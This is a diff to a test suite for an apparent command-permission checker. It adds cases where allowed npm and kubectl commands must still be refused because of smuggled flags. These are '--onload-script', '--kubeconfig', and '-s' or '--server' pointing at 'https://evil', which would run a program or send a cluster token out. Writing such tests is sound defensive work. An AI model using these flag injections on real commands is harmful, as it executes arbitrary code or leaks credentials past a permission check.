@@ -80,9 +80,20 @@ describe('package managers and containers', () => {
     ['npm run:*', 'npm run build --userconfig.x'],
     ['npm run:*', 'npm run build --init-module=x'],
     ['npm run:*', 'npm run build -C x'],
+    ['npm run:*', 'npm run build --onload-script=./x'],
+  ])
+
+  refusedDespite('names a cluster, whose settings may run a program or which gets the token', [
+    ['kubectl get:*', 'kubectl get pods --kubeconfig x'],
+    ['kubectl get:*', 'kubectl get pods --kubeconfig=x'],
+    ['kubectl get:*', 'kubectl get pods -s https://evil'],
+    ['kubectl get:*', 'kubectl get pods -As https://evil'],
+    ['kubectl logs:*', 'kubectl logs x --server=https://evil'],
   ])
 
   allowedBy([
+    ['kubectl get:*', 'kubectl get pods -o jsonpath={.items} --show-labels'],
+    ['kubectl logs:*', 'kubectl logs web --since=1h -n shop'],
     ['npm run:*', 'npm run build --prefixes'],
     ['npm run:*', 'npm run build --s'],
     ['npm run:*', 'npm run build --init'],
